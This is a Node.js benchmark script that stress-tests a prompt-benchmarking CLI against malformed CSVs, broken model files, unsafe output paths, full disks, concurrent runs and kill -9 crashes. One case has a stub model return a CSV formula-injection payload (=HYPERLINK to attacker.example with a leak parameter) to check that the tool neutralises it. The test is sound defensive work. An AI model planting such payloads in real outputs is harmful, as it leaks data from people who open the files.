// `npm run bench:robustness`: tries the broken inputs and hostile conditions of issue 11 against the built CLI, as a
// new user would meet them, and counts the cases handled (a message naming the file, no stack trace, the right exit
// code, nothing overwritten) and the finished rows lost. PB_CLI=path/to/cli.js measures another build (e.g. an older
// commit's) with the same cases. Flags: --kills N (kill -9 rounds, default 8), --seed N.
import { spawn, spawnSync } from "node:child_process";
import { createServer } from "node:http";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statfsSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { ensureTestModel } from "./make-test-model.mjs";

const root = resolve(fileURLToPath(import.meta.url), "..", "..");
const { values } = parseArgs({ options: { kills: { type: "string", default: "8" }, seed: { type: "string", default: "11" } } });
const CLI = resolve(process.env.PB_CLI ?? join(root, "dist", "cli.js"));
const work = mkdtempSync(join(tmpdir(), "pb-robust-"));
const modelA = ensureTestModel(join(root, ".cache", "models", "prompt-bench-test.gguf"));
const modelB = ensureTestModel(join(work, "second.gguf"), { seed: 7 });
const isRoot = process.getuid?.() === 0;
let rng = Number(values.seed) >>> 0;
const random = () => ((rng = (Math.imul(rng, 1664525) + 1013904223) >>> 0) / 2 ** 32);

const PROMPT = 'Extract the fields as JSON {"city": "...", "name": "..."} from this text:\n{source}\n';
const ROWS = [
  ["Anna Schmidt lives in Berlin.", "Anna Schmidt", "Berlin"],
  ["Herr Müller wohnt in München.", "Müller", "München"],
  ["Dr. Weiß arbeitet in Köln.", "Weiß", "Köln"],
  ["Frau Öztürk kommt aus Hamburg.", "Öztürk", "Hamburg"],
  ["Jens Groß fährt nach Dresden.", "Jens Groß", "Dresden"],
  ["Maria Kühn lebt in Leipzig.", "Maria Kühn", "Leipzig"],
];
const csvText = (rows = ROWS, extra = "") =>
  `source,name,city${extra ? "," + extra : ""}\n` + rows.map((r) => r.map((c) => `"${c}"`).join(",") + (extra ? ",x" : "") + "\n").join("");

function dir(name) {
  const d = join(work, name);
  mkdirSync(d, { recursive: true });
  writeFileSync(join(d, "p.prompt.txt"), PROMPT);
  writeFileSync(join(d, "data.csv"), csvText());
  return d;
}

const base = (d, ...more) => ["run", "--prompt", join(d, "p.prompt.txt"), "--csv", join(d, "data.csv"), "--threads", "1", "--max-new-tokens", "24", "--constrained", "--no-download", ...more];

function cli(args, cwd) {
  const r = spawnSync(process.execPath, [CLI, ...args], { cwd, encoding: "utf8", timeout: 300_000 });
  return { status: r.status, out: r.stdout + r.stderr };
}

/** A message a user can act on: no stack frames, no "failed unexpectedly". */
const clean = (out) => !/^\s+at .+:\d+:\d+\)?$/m.test(out) && !/failed unexpectedly/.test(out);

function readCsv(file) {
  if (!existsSync(file)) return { header: [], rows: [] };
  const text = readFileSync(file, "utf8").replace(/^\uFEFF/, "");
  const records = [];
  let cell = "", row = [], quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { row.push(cell); cell = ""; }
    else if (c === "\n" || c === "\r") { if (c === "\r" && text[i + 1] === "\n") i++; row.push(cell); records.push(row); row = []; cell = ""; }
    else cell += c;
  }
  if (cell !== "" || row.length > 0) { row.push(cell); records.push(row); }
  return { header: records[0] ?? [], rows: records.slice(1) };
}

/** Rows whose `pred_<model>_name` cell is filled. */
function filled(file, model) {
  const { header, rows } = readCsv(file);
  const i = header.indexOf(`pred_${model}_name`);
  const v = header.indexOf(`raw_${model}__valid`);
  return i < 0 ? 0 : rows.filter((r) => (r[v] ?? "") !== "" || (r[i] ?? "") !== "").length;
}

function predictions(file, models) {
  const { header, rows } = readCsv(file);
  return rows.map((r) => models.map((m) => header.filter((h) => h.startsWith(`pred_${m}_`) || h === `raw_${m}`).map((h) => r[header.indexOf(h)]).join("\u0001")).join("\u0002"));
}

function mountTmpfs(path, size) {
  mkdirSync(path, { recursive: true });
  const r = spawnSync("mount", ["-t", "tmpfs", "-o", `size=${size}`, "tmpfs", path], { encoding: "utf8" });
  return r.status === 0;
}
const umount = (path) => spawnSync("umount", ["-l", path]);

const results = [];
async function attempt(name, fn) {
  const started = Date.now();
  let r;
  try {
    r = await fn();
  } catch (error) {
    r = { handled: false, lost: 0, why: `bench error: ${error.message}` };
  }
  r.seconds = (Date.now() - started) / 1000;
  results.push({ name, ...r });
  console.log(`${r.handled ? "handled" : r.skipped ? "n/a    " : "NOT    "}  lost ${String(r.lost ?? 0).padStart(2)}  ${name}${r.why ? `  — ${r.why}` : ""}`);
}

const two = (d) => `${d}/a.gguf,${d}/b.gguf`;
function twoModels(d, first) {
  writeFileSync(join(d, "a.gguf"), first);
  writeFileSync(join(d, "b.gguf"), readFileSync(modelB));
  return two(d);
}

// Reference: an uninterrupted run of both models, for the kill -9 and disk-full cases.
const ref = dir("reference");
writeFileSync(join(ref, "a.gguf"), readFileSync(modelA));
writeFileSync(join(ref, "b.gguf"), readFileSync(modelB));
const refRun = cli(base(ref, "--model", two(ref), "--output", join(ref, "out.csv"), "--skip-metrics"));
if (refRun.status !== 0) {
  console.error(`the reference run failed (${refRun.status}):\n${refRun.out}`);
  process.exit(1);
}
const reference = predictions(join(ref, "out.csv"), ["a", "b"]);
const lostAgainstReference = (file) => predictions(file, ["a", "b"]).filter((p, i) => p !== reference[i]).length + Math.max(0, reference.length - predictions(file, ["a", "b"]).length);

console.log(`CLI: ${CLI}\n`);

// --- input files a user can get wrong ---------------------------------------------------------------------------
const inputCase = (name, setup, { code = 1, names = "data.csv", says } = {}) =>
  attempt(name, () => {
    const d = dir(name.replace(/\W+/g, "-"));
    const args = setup(d) ?? base(d, "--model", modelA);
    const r = cli(args);
    // The case folder is named after the case ("random-binary-as-CSV"): judge the words of the message, not the path.
    const ok = r.status === code && clean(r.out) && (!names || r.out.includes(names)) && (!says || says.test(r.out.split(d).join("")));
    return { handled: ok, lost: 0, why: ok ? "" : `exit ${r.status}: ${r.out.trim().split("\n").slice(-3).join(" | ").slice(0, 160)}` };
  });

await inputCase("CSV file missing", (d) => { rmSync(join(d, "data.csv")); });
await inputCase("prompt file missing", (d) => { rmSync(join(d, "p.prompt.txt")); }, { names: "p.prompt.txt" });
await inputCase("prompt without {source}", (d) => { writeFileSync(join(d, "p.prompt.txt"), "no placeholder"); }, { names: "p.prompt.txt" });
await inputCase("CSV without a source column", (d) => { writeFileSync(join(d, "data.csv"), "text,name\na,b\n"); });
await inputCase("zero-byte CSV", (d) => { writeFileSync(join(d, "data.csv"), ""); });
await inputCase("ragged CSV row", (d) => { writeFileSync(join(d, "data.csv"), "source,name\na,b\nc,d,e\n"); });
await inputCase("random binary as CSV", (d) => {
  const bytes = Buffer.alloc(4096);
  for (let i = 0; i < bytes.length; i++) bytes[i] = Math.floor(random() * 256);
  writeFileSync(join(d, "data.csv"), bytes);
}, { says: /not a text|binary/i });
await inputCase("Excel workbook as CSV", (d) => {
  writeFileSync(join(d, "data.csv"), Buffer.concat([Buffer.from("PK\x03\x04\x14\x00\x06\x00", "latin1"), Buffer.from("[Content_Types].xml\u0000\u0000\u0001xl/workbook.xml", "latin1")]));
}, { says: /Excel|xlsx/ }); // not "workbook": the old message quoted the bytes, "xl/workbook.xml" among them
await inputCase("gzip file as CSV", (d) => { writeFileSync(join(d, "data.csv"), Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0x4b, 0x4c, 0x4a, 6, 0, 0xc2, 0x41, 0x24, 0x35, 3, 0, 0, 0])); }, { says: /gzip|compressed|not a text|binary/i });
await inputCase("models file is not JSON", (d) => { writeFileSync(join(d, "models.json"), "[{name: oops"); return base(d, "--models-file", join(d, "models.json"), "--model", "custom"); }, { names: "models.json" });
await inputCase("model file path does not exist", (d) => base(d, "--model", join(d, "nope.gguf")), { names: "nope.gguf" });
await inputCase("unknown flag", (d) => base(d, "--modle", "x"), { code: 2, names: "" });

// --- broken model files, first of two: the good second model must still run ------------------------------------
const goodModel = readFileSync(modelA);
const badModels = {
  "zero-byte .gguf": Buffer.alloc(0),
  "truncated .gguf (first half)": goodModel.subarray(0, Math.floor(goodModel.length / 2)),
  "wrong-magic .gguf": Buffer.concat([Buffer.from("FUGG"), goodModel.subarray(4)]),
  "text file named .gguf": Buffer.from("this is not a model, it is a README\n"),
};
for (const [name, bytes] of Object.entries(badModels)) {
  await attempt(`${name} before a good model`, () => {
    const d = dir(name.replace(/\W+/g, "-"));
    const r = cli(base(d, "--model", twoModels(d, bytes), "--output", join(d, "out.csv"), "--skip-metrics"));
    const good = filled(join(d, "out.csv"), "b");
    const ok = (r.status === 0 || r.status === 1) && clean(r.out) && r.out.includes("a.gguf") && good === ROWS.length;
    return { handled: ok, lost: 0, why: ok ? "" : `exit ${r.status}, good model rows ${good}/${ROWS.length}: ${r.out.trim().split("\n").slice(-2).join(" | ").slice(0, 160)}` };
  });
}

// --- output paths ------------------------------------------------------------------------------------------------
const cp1252 = Buffer.from("source;name;city\r\n\"Herr M\xfcller wohnt in M\xfcnchen.\";M\xfcller;M\xfcnchen\r\n\"Frau Wei\xdf lebt in K\xf6ln.\";Wei\xdf;K\xf6ln\r\n", "latin1");
const inputKept = (name, args) =>
  attempt(name, () => {
    const d = dir(name.replace(/\W+/g, "-"));
    writeFileSync(join(d, "data.csv"), cp1252);
    try { symlinkSync(join(d, "data.csv"), join(d, "link.csv")); } catch { /* exists */ }
    const r = cli(args(d));
    const same = readFileSync(join(d, "data.csv")).equals(cp1252);
    const ok = same && r.status !== 0 && clean(r.out) && r.out.includes("data.csv");
    return { handled: ok, lost: same ? 0 : 2, why: ok ? "" : `exit ${r.status}, input ${same ? "kept" : "OVERWRITTEN"}: ${r.out.trim().split("\n").slice(-1)[0]?.slice(0, 140)}` };
  });
await inputKept("--output is the input CSV (cp1252, ;)", (d) => base(d, "--model", modelA, "--output", join(d, "data.csv")));
await inputKept("--output is a symlink to the input CSV", (d) => base(d, "--model", modelA, "--output", join(d, "link.csv")));
await inputKept("--metrics is the input CSV", (d) => base(d, "--model", modelA, "--metrics", join(d, "data.csv")));

await attempt("--output is a directory", () => {
  const d = dir("output-dir");
  mkdirSync(join(d, "out"), { recursive: true });
  const r = cli(base(d, "--model", modelA, "--output", join(d, "out")));
  const ok = r.status === 1 && clean(r.out) && r.out.includes(join(d, "out"));
  return { handled: ok, lost: 0, why: ok ? "" : `exit ${r.status}: ${r.out.trim().split("\n").slice(-1)[0]?.slice(0, 140)}` };
});

await attempt("output folder is read-only (EROFS)", () => {
  if (!isRoot) return { handled: false, skipped: true, why: "needs root to mount a tmpfs" };
  const d = dir("read-only");
  const ro = join(d, "ro");
  if (!mountTmpfs(ro, "1m")) return { handled: false, skipped: true, why: "mount failed" };
  try {
    spawnSync("mount", ["-o", "remount,ro", ro]);
    const r = cli(base(d, "--model", modelA, "--output", join(ro, "out.csv")));
    const ok = r.status === 1 && clean(r.out) && r.out.includes(ro);
    return { handled: ok, lost: 0, why: ok ? "" : `exit ${r.status}: ${r.out.trim().split("\n").slice(-1)[0]?.slice(0, 140)}` };
  } finally {
    umount(ro);
  }
});

await attempt("disk full during the run (ENOSPC), then rerun", () => {
  if (!isRoot) return { handled: false, skipped: true, why: "needs root to mount a tmpfs" };
  const d = dir("disk-full");
  writeFileSync(join(d, "a.gguf"), readFileSync(modelA));
  writeFileSync(join(d, "b.gguf"), readFileSync(modelB));
  const small = join(d, "small");
  if (!mountTmpfs(small, "1m")) return { handled: false, skipped: true, why: "mount failed" };
  try {
    // Leave three pages free: room for the run to start (journal, results, meta) but not for its rewrites.
    const { bavail, bsize } = statfsSync(small);
    writeFileSync(join(small, "filler"), Buffer.alloc(Math.max(0, bavail * bsize - 3 * 4096)));
    const out = join(small, "out.csv");
    const r = cli(base(d, "--model", two(d), "--output", out, "--skip-metrics"));
    const first = r.status === 1 && clean(r.out) && r.out.includes(small);
    rmSync(join(small, "filler"));
    const again = cli(base(d, "--model", two(d), "--output", out, "--skip-metrics"));
    const lost = lostAgainstReference(out);
    const ok = first && again.status === 0 && lost === 0;
    return { handled: ok, lost, why: ok ? "" : `first exit ${r.status} (${first ? "clean" : r.out.trim().split("\n").slice(-1)[0]?.slice(0, 120)}), rerun exit ${again.status}` };
  } finally {
    umount(small);
  }
});

// --- columns and cells -------------------------------------------------------------------------------------------
await attempt("input column named raw_x", () => {
  const d = dir("raw-x");
  writeFileSync(join(d, "data.csv"), csvText(ROWS, "raw_x"));
  const r = cli(base(d, "--model", modelA, "--output", join(d, "out.csv"), "--metrics", join(d, "m.csv")));
  const metrics = existsSync(join(d, "m.csv")) ? readCsv(join(d, "m.csv")) : { header: [], rows: [] };
  const mi = metrics.header.indexOf("model");
  const ghost = metrics.rows.some((row) => row[mi] === "x");
  const kept = readCsv(join(d, "out.csv")).header.includes("raw_x");
  const ok = r.status === 0 && !ghost && kept;
  return { handled: ok, lost: kept ? 0 : ROWS.length, why: ok ? "" : `exit ${r.status}, model "x" in metrics: ${ghost}, column kept: ${kept}` };
});

await attempt("model output =HYPERLINK(…) (CSV injection)", async () => {
  const d = dir("injection");
  const content = JSON.stringify({ name: '=HYPERLINK("http://attacker.example/?leak","open")', city: "@SUM(A1:A9)" });
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      res.setHeader("content-type", "application/json");
      if (req.url?.endsWith("/models")) return res.end(JSON.stringify({ data: [{ id: "stub" }] }));
      res.end(JSON.stringify({ id: "1", object: "chat.completion", choices: [{ index: 0, finish_reason: "stop", message: { role: "assistant", content } }], usage: { prompt_tokens: 10, completion_tokens: 10 } }));
    });
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  try {
    const port = server.address().port;
    writeFileSync(join(d, "models.json"), JSON.stringify([{ name: "stub", endpoint: `http://127.0.0.1:${port}/v1`, model: "stub" }]));
    const r = await new Promise((done) => {
      const child = spawn(process.execPath, [CLI, ...base(d, "--models-file", join(d, "models.json"), "--model", "stub", "--output", join(d, "out.csv"))], { stdio: ["ignore", "pipe", "pipe"] });
      let out = "";
      child.stdout.on("data", (c) => (out += c));
      child.stderr.on("data", (c) => (out += c));
      child.on("close", (status) => done({ status, out }));
    });
    const { header, rows } = readCsv(join(d, "out.csv"));
    const cells = rows.flatMap((row) => header.flatMap((h, i) => (h.startsWith("pred_") ? [row[i] ?? ""] : [])));
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c)).length;
    const ok = r.status === 0 && cells.length > 0 && live === 0;
    return { handled: ok, lost: 0, why: ok ? "" : `exit ${r.status}, ${live}/${cells.length} model cells start with a formula character` };
  } finally {
    server.close();
  }
});

// --- concurrent runs -----------------------------------------------------------------------------------------------
function start(args) {
  return new Promise((done) => {
    const child = spawn(process.execPath, [CLI, ...args], { stdio: ["ignore", "pipe", "pipe"] });
    let out = "";
    child.stdout.on("data", (c) => (out += c));
    child.stderr.on("data", (c) => (out += c));
    child.on("close", (status) => done({ status, out }));
  });
}
await attempt("two runs, different models, one results file", async () => {
  const d = dir("concurrent-different");
  writeFileSync(join(d, "a.gguf"), readFileSync(modelA));
  writeFileSync(join(d, "b.gguf"), readFileSync(modelB));
  const out = join(d, "out.csv");
  const [r1, r2] = await Promise.all([start(base(d, "--model", join(d, "a.gguf"), "--output", out)), start(base(d, "--model", join(d, "b.gguf"), "--output", out))]);
  const claimed = (r1.status === 0 ? ROWS.length : 0) + (r2.status === 0 ? ROWS.length : 0);
  const present = (r1.status === 0 ? filled(out, "a") : 0) + (r2.status === 0 ? filled(out, "b") : 0);
  const refused = [r1, r2].filter((r) => r.status === 1 && /lock|running/i.test(r.out) && clean(r.out)).length;
  const lost = claimed - present;
  const ok = lost === 0 && refused === 1;
  return { handled: ok, lost, why: ok ? "" : `exits ${r1.status}/${r2.status}, refused ${refused}, rows claimed ${claimed}, present ${present}` };
});
await attempt("two identical runs at once", async () => {
  const d = dir("concurrent-same");
  const out = join(d, "out.csv");
  const [r1, r2] = await Promise.all([start(base(d, "--model", modelA, "--output", out)), start(base(d, "--model", modelA, "--output", out))]);
  const refused = [r1, r2].filter((r) => r.status === 1 && /lock|running/i.test(r.out) && clean(r.out)).length;
  // Handled: the second run refuses and names the first, instead of both redoing every row.
  const ok = refused === 1 && filled(out, "prompt-bench-test") === ROWS.length;
  return { handled: ok, lost: 0, why: ok ? "" : `exits ${r1.status}/${r2.status}, refused ${refused}` };
});

// --- kill -9 at random points, two models ---------------------------------------------------------------------------
const kills = Number(values.kills);
for (let k = 0; k < kills; k++) {
  await attempt(`kill -9 at a random point (${k + 1}/${kills}), then rerun`, async () => {
    const d = dir(`kill-${k}`);
    writeFileSync(join(d, "a.gguf"), readFileSync(modelA));
    writeFileSync(join(d, "b.gguf"), readFileSync(modelB));
    const out = join(d, "out.csv");
    const args = base(d, "--model", two(d), "--output", out, "--skip-metrics");
    const delay = 800 + Math.floor(random() * 9000);
    const child = spawn(process.execPath, [CLI, ...args], { stdio: "ignore" });
    const timer = setTimeout(() => child.kill("SIGKILL"), delay);
    await new Promise((done) => child.on("close", done));
    clearTimeout(timer);
    const again = cli(args);
    const lost = lostAgainstReference(out);
    const ok = again.status === 0 && lost === 0;
    return { handled: ok, lost, why: ok ? `killed after ${delay} ms` : `killed after ${delay} ms; rerun exit ${again.status}: ${again.out.trim().split("\n").slice(-1)[0]?.slice(0, 120)}` };
  });
}

const tried = results.filter((r) => !r.skipped);
const handled = tried.filter((r) => r.handled).length;
const lost = results.reduce((s, r) => s + (r.lost ?? 0), 0);
const seconds = results.reduce((s, r) => s + r.seconds, 0);
console.log(`\n${tried.length} cases tried, ${handled} handled, ${tried.length - handled} not; rows lost: ${lost}` +
  `${results.length > tried.length ? `; ${results.length - tried.length} not applicable here` : ""} (${seconds.toFixed(0)} s)`);
rmSync(work, { recursive: true, force: true });
process.exitCode = handled === tried.length && lost === 0 ? 0 : 1;
